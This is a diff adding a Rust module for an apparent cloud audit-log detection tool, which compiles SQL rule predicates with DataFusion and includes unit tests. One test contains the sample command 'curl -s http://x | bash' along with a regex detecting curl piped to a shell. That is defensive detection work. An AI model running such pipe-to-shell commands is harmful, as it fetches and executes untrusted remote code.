@@ -1,0 +1,287 @@
+//! Where a rule is compiled: the `where` SQL goes through DataFusion's parser,
+//! type coercion and physical planner exactly once, and the resulting
+//! physical expression is evaluated on every batch.
+
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use arrow::array::{Array, BooleanArray, RecordBatch};
+use datafusion::common::DFSchema;
+use datafusion::physical_expr::PhysicalExpr;
+use datafusion::prelude::SessionContext;
+use trailhound_core::{Severity, event_schema};
+
+use crate::error::RuleError;
+use crate::rule::{RuleSpec, RuleTestSpec, parse_period_micros};
+use crate::template::Template;
+
+/// A rule ready to run: metadata plus the compiled predicate.
+#[derive(Debug)]
+pub struct CompiledRule {
+    /// Unique id.
+    pub id: String,
+    /// One-line title.
+    pub title: String,
+    /// Plain-words description.
+    pub description: String,
+    /// How bad a match is.
+    pub severity: Severity,
+    /// ATT&CK and other tags.
+    pub tags: Vec<String>,
+    /// The file it came from; `None` for rules built into the binary.
+    pub file: Option<PathBuf>,
+    /// The `where` text, for listing and backtesting.
+    pub sql: String,
+    /// Dedup period in microseconds.
+    pub dedup_period_micros: i64,
+    /// Inline tests.
+    pub tests: Vec<RuleTestSpec>,
+    predicate: Arc<dyn PhysicalExpr>,
+    evidence: Template,
+    dedup_key: Vec<usize>,
+}
+
+impl CompiledRule {
+    /// Evaluates the predicate on a batch of [`event_schema`]. Rows where the
+    /// predicate is NULL count as no match.
+    pub fn evaluate(&self, batch: &RecordBatch) -> Result<BooleanArray, RuleError> {
+        let value = self
+            .predicate
+            .evaluate(batch)
+            .map_err(|e| self.eval_error(e.to_string()))?;
+        let array = value
+            .into_array(batch.num_rows())
+            .map_err(|e| self.eval_error(e.to_string()))?;
+        let bools = array
+            .as_any()
+            .downcast_ref::<BooleanArray>()
+            .ok_or_else(|| self.eval_error(format!("predicate gave {}", array.data_type())))?;
+        Ok(if bools.null_count() == 0 {
+            bools.clone()
+        } else {
+            // NULL means "unknown", which for a detection means "no".
+            bools.iter().map(|v| Some(v == Some(true))).collect()
+        })
+    }
+
+    /// The plain-words evidence for one matching row.
+    pub fn evidence(&self, batch: &RecordBatch, row: usize) -> String {
+        self.evidence.render(batch, row)
+    }
+
+    /// The dedup key of one row: the values of the key columns, joined.
+    pub fn dedup_key(&self, batch: &RecordBatch, row: usize) -> Vec<String> {
+        self.dedup_key
+            .iter()
+            .map(|&c| crate::template::cell_text(batch.column(c).as_ref(), row))
+            .collect()
+    }
+
+    fn eval_error(&self, reason: String) -> RuleError {
+        RuleError::Evaluate {
+            id: self.id.clone(),
+            reason,
+        }
+    }
+}
+
+/// Compiles rule specs against the event schema. Holds one DataFusion session
+/// with the JSON functions registered; create it once and reuse it.
+pub struct Compiler {
+    ctx: SessionContext,
+    schema: DFSchema,
+}
+
+impl std::fmt::Debug for Compiler {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("Compiler").finish_non_exhaustive()
+    }
+}
+
+impl Compiler {
+    /// A compiler for the event schema.
+    pub fn new() -> Result<Self, RuleError> {
+        let mut ctx = SessionContext::new();
+        datafusion_functions_json::register_all(&mut ctx).map_err(|e| RuleError::Engine {
+            reason: e.to_string(),
+        })?;
+        let schema =
+            DFSchema::try_from(event_schema().as_ref().clone()).map_err(|e| RuleError::Engine {
+                reason: e.to_string(),
+            })?;
+        Ok(Self { ctx, schema })
+    }
+
+    /// Compiles one rule. Errors name the rule, its file and the reason.
+    pub fn compile(&self, spec: RuleSpec, file: Option<&Path>) -> Result<CompiledRule, RuleError> {
+        let invalid = |reason: String| RuleError::Invalid {
+            id: spec.id.clone(),
+            file: file.map(Path::to_path_buf),
+            reason,
+        };
+        if spec.id.trim().is_empty() {
+            return Err(invalid("the id is empty".into()));
+        }
+        let dedup_period_micros = parse_period_micros(&spec.dedup.period).ok_or_else(|| {
+            invalid(format!(
+                "dedup period {:?} is not a positive number followed by s, m, h or d",
+                spec.dedup.period
+            ))
+        })?;
+        let arrow_schema = event_schema();
+        let mut dedup_key = Vec::with_capacity(spec.dedup.key.len());
+        for name in &spec.dedup.key {
+            let idx = arrow_schema.index_of(name).map_err(|_| {
+                invalid(format!(
+                    "dedup key column {name:?} is not in the event model"
+                ))
+            })?;
+            dedup_key.push(idx);
+        }
+        let evidence_text = spec
+            .evidence
+            .clone()
+            .unwrap_or_else(|| "{principal} called {event_name} from {source_ip}".to_string());
+        let evidence = Template::parse(&evidence_text, &arrow_schema).map_err(invalid)?;
+
+        let compile_err = |reason: String| RuleError::Compile {
+            id: spec.id.clone(),
+            file: file.map(Path::to_path_buf),
+            reason,
+        };
+        let expr = self
+            .ctx
+            .parse_sql_expr(&spec.predicate, &self.schema)
+            .map_err(|e| compile_err(e.to_string()))?;
+        let predicate = self
+            .ctx
+            .create_physical_expr(expr, &self.schema)
+            .map_err(|e| compile_err(e.to_string()))?;
+        let data_type = predicate
+            .data_type(&arrow_schema)
+            .map_err(|e| compile_err(e.to_string()))?;
+        if data_type != arrow::datatypes::DataType::Boolean {
+            return Err(compile_err(format!(
+                "`where` must be a boolean condition, but it gives {data_type}"
+            )));
+        }
+        Ok(CompiledRule {
+            id: spec.id,
+            title: spec.title,
+            description: spec.description,
+            severity: spec.severity.0,
+            tags: spec.tags,
+            file: file.map(Path::to_path_buf),
+            sql: spec.predicate,
+            dedup_period_micros,
+            tests: spec.tests,
+            predicate,
+            evidence,
+            dedup_key,
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use trailhound_core::{Event, events_to_batch};
+
+    fn spec(predicate: &str) -> RuleSpec {
+        serde_yaml::from_str(&format!(
+            "id: t\ntitle: T\nseverity: low\nwhere: |\n  {predicate}\n"
+        ))
+        .unwrap()
+    }
+
+    fn hits(predicate: &str, events: &[Event]) -> Vec<bool> {
+        let rule = Compiler::new()
+            .unwrap()
+            .compile(spec(predicate), None)
+            .unwrap();
+        let batch = events_to_batch(events);
+        rule.evaluate(&batch)
+            .unwrap()
+            .iter()
+            .map(|v| v.unwrap_or(false))
+            .collect()
+    }
+
+    fn ev(name: &str, request: Option<&str>, command: Option<&str>) -> Event {
+        Event {
+            event_name: name.into(),
+            request: request.map(str::to_string),
+            command: command.map(str::to_string),
+            resources: vec!["arn:aws:s3:::vault".into()],
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn dictionary_columns_compare_to_literals() {
+        let events = [
+            ev("StopLogging", None, None),
+            ev("DescribeTrails", None, None),
+        ];
+        assert_eq!(
+            hits("event_name IN ('StopLogging', 'DeleteTrail')", &events),
+            [true, false]
+        );
+        assert_eq!(
+            hits("event_name = 'DescribeTrails'", &events),
+            [false, true]
+        );
+    }
+
+    #[test]
+    fn json_functions_reach_into_request() {
+        let events = [
+            ev("CreateAccessKey", Some(r#"{"userName":"bob"}"#), None),
+            ev("CreateAccessKey", None, None),
+        ];
+        assert_eq!(
+            hits("json_get_str(request, 'userName') = 'bob'", &events),
+            [true, false]
+        );
+    }
+
+    #[test]
+    fn regex_and_arrays_work() {
+        let events = [
+            ev("session.command", None, Some("curl -s http://x | bash")),
+            ev("x", None, Some("ls")),
+        ];
+        assert_eq!(
+            hits(r"regexp_like(command, 'curl .*\|\s*(ba)?sh')", &events),
+            [true, false]
+        );
+        assert_eq!(
+            hits("array_has(resources, 'arn:aws:s3:::vault')", &events),
+            [true, true]
+        );
+    }
+
+    #[test]
+    fn null_is_no_match() {
+        let events = [ev("a", None, None)];
+        assert_eq!(hits("command = 'ls'", &events), [false]);
+    }
+
+    #[test]
+    fn bad_rules_are_refused_with_id_and_reason() {
+        let c = Compiler::new().unwrap();
+        let e = c
+            .compile(spec("no_such_column = 1"), Some(Path::new("x.yaml")))
+            .unwrap_err()
+            .to_string();
+        assert!(e.contains("rule t (x.yaml) does not compile"), "{e}");
+        assert!(e.contains("no_such_column"), "{e}");
+        let e = c.compile(spec("event_name"), None).unwrap_err().to_string();
+        assert!(e.contains("must be a boolean"), "{e}");
+        let e = c
+            .compile(spec("event_name = = 'x'"), None)
+            .unwrap_err()
+            .to_string();
+        assert!(e.contains("does not compile"), "{e}");
+    }
+}
